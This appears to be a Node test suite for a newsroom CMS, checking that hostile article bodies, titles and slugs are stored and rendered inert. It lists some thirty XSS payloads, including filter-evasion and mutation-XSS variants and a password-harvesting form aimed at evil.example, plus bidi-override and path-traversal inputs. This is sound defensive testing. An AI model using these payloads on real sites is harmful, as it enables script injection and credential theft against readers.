/**
 * Hostile article bodies and titles, through the newsroom as a reporter would send them.
 * Each body is saved through the editor's form, published, and the public page read back:
 * what is stored and what readers get must hold no script, no handler, no script URL, no
 * frame, no style, no form and nothing that reaches outside the body. Hostile titles render
 * as the text typed, minus invisible controls; impossible ones are refused with a 400 that
 * names the field, and nothing is written.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import * as cheerio from 'cheerio';
import { getChannelByPath } from '../../src/features/channels/channels.service.ts';
import { articlePath } from '../../src/features/articles/article-path.ts';
import { createTestApp, type TestApp } from '../helpers/app.ts';
import { testDialects } from '../helpers/databases.ts';
import { articleIdFrom, createStaff, signedIn, type NewsroomClient } from '../helpers/newsroom.ts';

const dialects = await testDialects('hostile article HTML');

/** [name, body]: classic vectors, filter evasions and mutation XSS. */
const BODIES: ReadonlyArray<readonly [string, string]> = [
  ['script element', '<p>前</p><script>alert(1)</script><p>后</p>'],
  ['img onerror', '<img src="x" onerror="alert(1)">'],
  ['javascript: link', '<a href="javascript:alert(1)">点我</a>'],
  ['mixed-case scheme', '<a href="JaVaScRiPt:alert(1)">点我</a>'],
  ['entity-encoded scheme', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">点我</a>'],
  ['tab inside the scheme', '<a href="jav&#x09;ascript:alert(1)">点我</a>'],
  ['leading space and newline', '<a href=" \njavascript:alert(1)">点我</a>'],
  ['vbscript: link', '<a href="vbscript:msgbox(1)">点我</a>'],
  ['data: HTML link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">点我</a>'],
  ['data: SVG image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['srcset with a script URL', '<img src="https://img.example/a.jpg" srcset="javascript:alert(1) 1x">'],
  ['svg with script', '<svg><script>alert(1)</script></svg>'],
  ['svg onload', '<svg onload="alert(1)"><circle r="5"/></svg>'],
  ['svg xlink:href', '<svg><a xlink:href="javascript:alert(1)"><text y="20">点我</text></a></svg>'],
  ['MathML mutation', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
  ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>'],
  ['style element', '<style>body{background:url(javascript:alert(1))}</style><p>正文</p>'],
  ['style attribute', '<p style="background:url(javascript:alert(1));position:fixed;top:0">遮住整页</p>'],
  ['iframe', '<iframe src="https://evil.example/"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object and embed', '<object data="evil.swf"></object><embed src="evil.swf">'],
  ['form and input', '<form action="https://evil.example/steal"><input name="password" type="password"><button>登录</button></form>'],
  ['base element', '<base href="https://evil.example/"><a href="/x">相对链接</a>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['link import', '<link rel="import" href="https://evil.example/x.html">'],
  ['details ontoggle', '<details open ontoggle="alert(1)"><summary>x</summary></details>'],
  ['comment hiding markup', '<p>正文</p><!--<img src=x onerror=alert(1)>-->'],
  ['template content', '<template><script>alert(1)</script></template>'],
  ['nested tag split', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['unclosed attribute', '<p><b>未闭合 <a href="https://ok.example/" title="x'],
  ['DOM clobbering ids', '<p id="main">x</p><img name="cookie" src="https://img.example/a.jpg"><a id="site-search-q" href="https://ok.example/">y</a>'],
  ['target blank without rel', '<a href="https://ok.example/" target="_blank">外链</a>'],
];

const FORBIDDEN_ELEMENTS = 'script, style, iframe, frame, object, embed, form, input, button, base, meta, link, svg, math, template, noscript, details';

/** The safety of one body fragment, wherever it is (stored or rendered). */
function assertSafeFragment($: cheerio.CheerioAPI, root: ReturnType<cheerio.CheerioAPI>, label: string): void {
  assert.equal(root.find(FORBIDDEN_ELEMENTS).length, 0, `${label}: no active or structural elements: ${root.html()}`);
  root.find('*').each((_, el) => {
    for (const [name, value] of Object.entries((el as unknown as { attribs: Record<string, string> }).attribs)) {
      assert.ok(!/^on/i.test(name), `${label}: no handler attribute (${name})`);
      assert.ok(!['style', 'id', 'name', 'srcset', 'srcdoc', 'formaction', 'xlink:href'].includes(name.toLowerCase()), `${label}: no ${name} attribute`);
      if (['href', 'src', 'action'].includes(name)) {
        // Browsers ignore whitespace and control characters inside a scheme.
        // eslint-disable-next-line no-control-regex
        const compact = value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
        assert.ok(!/^(javascript|vbscript|data):/.test(compact), `${label}: no script or data URL (${value})`);
      }
    }
    if ((el as { tagName?: string }).tagName === 'a' && $(el).attr('target') === '_blank') {
      assert.match($(el).attr('rel') ?? '', /noopener/, `${label}: new windows get no opener`);
    }
  });
}

for (const dialect of dialects) {
  describe(`hostile article HTML [${dialect}]`, () => {
    let t: TestApp;
    let reporter: NewsroomClient;
    let chief: NewsroomClient;
    let admin: NewsroomClient;
    let channelId: number;

    before(async () => {
      t = await createTestApp(dialect, { demo: true, perChannel: 2 });
      const staff = await createStaff(t.db.database.db, t.clock);
      reporter = await signedIn(t.app, staff.reporter, '203.0.113.20');
      chief = await signedIn(t.app, staff.chief_editor, '203.0.113.21');
      admin = await signedIn(t.app, staff.admin, '203.0.113.22');
      channelId = (await getChannelByPath(t.db.database.db, 'news'))?.id ?? 0;
      assert.ok(channelId > 0);
    });
    after(() => t.close());

    /** Saved by a reporter, published by the chief editor, read back as readers get it. */
    async function publishAndRead(title: string, bodyHtml: string): Promise<{ id: number; stored: string; page: cheerio.CheerioAPI; status: number }> {
      const id = articleIdFrom(await reporter.post('/newsroom/articles', { title, bodyHtml, channelId: String(channelId) }));
      const published = await chief.post(`/newsroom/articles/${id}/publish`);
      assert.ok(published.statusCode < 400, `published: ${published.statusCode} ${published.body.slice(0, 200)}`);
      const row = await t.db.database.db.selectFrom('articles').select(['body_html', 'published_at']).where('id', '=', id).executeTakeFirstOrThrow();
      const res = await t.app.inject({ method: 'GET', url: articlePath(id, new Date(row.published_at as unknown as string), 'Asia/Shanghai') });
      return { id, stored: row.body_html, page: cheerio.load(res.body), status: res.statusCode };
    }

    for (const [name, body] of BODIES) {
      it(`body: ${name} is stored and shown inert`, async () => {
        const { stored, page, status } = await publishAndRead(`安全测试:${name}`, body);
        assert.equal(status, 200);
        const s = cheerio.load(stored, null, false);
        assertSafeFragment(s, s.root(), `${name} (stored)`);
        const rendered = page('.article__body');
        assert.equal(rendered.length, 1, 'the page has its body');
        assertSafeFragment(page, rendered, `${name} (page)`);
        // The only scripts on the page are ours, carrying the response's nonce.
        page('script:not([type="application/ld+json"])').each((_, el) => {
          assert.ok(page(el).attr('nonce') && page(el).attr('src')?.startsWith('/assets/'), `${name}: a foreign script on the page`);
        });
      });
    }

    it('body: plain text with markup characters stays text', async () => {
      const { page } = await publishAndRead('尖括号', '<p>1 &lt; 2 &amp;&amp; 3 &gt; 2 "&lt;script&gt;"</p>');
      assert.equal(page('.article__body p').first().text(), '1 < 2 && 3 > 2 "<script>"');
    });

    describe('titles', () => {
      async function titled(title: string): Promise<{ id: number; stored: string; page: cheerio.CheerioAPI }> {
        const { id, page } = await publishAndRead(title, '<p>正文</p>');
        const row = await t.db.database.db.selectFrom('articles').select('title').where('id', '=', id).executeTakeFirstOrThrow();
        return { id, stored: row.title, page };
      }

      it('markup in a title is text everywhere it appears', async () => {
        const title = '<script>alert(1)</script>"><img src=x onerror=alert(1)></title>';
        const { stored, page } = await titled(title);
        assert.equal(stored, title);
        assert.equal(page('h1.article__title').text(), title);
        assert.equal(page('title').text().startsWith(title), true);
        assert.equal(page('meta[property="og:title"]').attr('content'), title);
        assert.equal(page('img[src="x"]').length, 0);
      });

      it('bidi overrides and isolates are removed, so the title reads as typed', async () => {
        const { stored, page } = await titled('通知\u202Egnp.exe\u202C 与 \u2067隔离\u2069 和 \u202Bembed\u202C');
        assert.equal(stored, '通知gnp.exe 与 隔离 和 embed');
        assert.equal(page('h1.article__title').text(), stored);
      });

      it('zero-width spaces and BOMs are removed; joiners in emoji stay', async () => {
        const family = '👨\u200D👩\u200D👧';
        const { stored } = await titled(`援\u200B疆\uFEFF干\u2060部 ${family}`);
        assert.equal(stored, `援疆干部 ${family}`);
      });

      it('emoji and mixed scripts are kept exactly', async () => {
        const title = '🇨🇳 新疆 Xinjiang Синьцзян شىنجاڭ 新疆ウイグル 𠮷野家';
        const { stored, page } = await titled(title);
        assert.equal(stored, title);
        assert.equal(page('h1.article__title').text(), title);
      });

      it('a 10,000-character title is refused by name, and nothing is written', async () => {
        const before = await t.db.database.db.selectFrom('articles').select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow();
        const res = await reporter.post('/newsroom/articles', { title: '长'.repeat(10_000), bodyHtml: '<p>正文</p>', channelId: String(channelId) }, { accept: 'application/json' });
        assert.equal(res.statusCode, 400);
        assert.match(res.body, /title/);
        const after = await t.db.database.db.selectFrom('articles').select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow();
        assert.equal(Number(after.n), Number(before.n));
      });

      it('a title of only invisible characters is refused as empty', async () => {
        const res = await reporter.post('/newsroom/articles', { title: '\u200B\u202E\uFEFF \u2066', bodyHtml: '<p>正文</p>', channelId: String(channelId) }, { accept: 'application/json' });
        assert.equal(res.statusCode, 400);
        assert.match(res.body, /title/);
      });
    });

    describe('slugs', () => {
      for (const [name, slug] of [
        ['bidi override', 'news\u202Eevil'],
        ['zero-width space', 'ne\u200Bws'],
        ['10,000 characters', 'a'.repeat(10_000)],
        ['path traversal', '../admin'],
        ['emoji', 'news-🔥'],
      ] as const) {
        it(`a channel slug with ${name} is refused with 400 and nothing is written`, async () => {
          const before = await t.db.database.db.selectFrom('channels').select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow();
          const res = await admin.post('/newsroom/channels', { name: '新频道', slug, parentId: String(channelId) }, { accept: 'application/json' });
          assert.ok(res.statusCode >= 400 && res.statusCode < 500, `${name}: ${res.statusCode}`);
          const after = await t.db.database.db.selectFrom('channels').select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow();
          assert.equal(Number(after.n), Number(before.n));
        });
      }
    });
  });
}
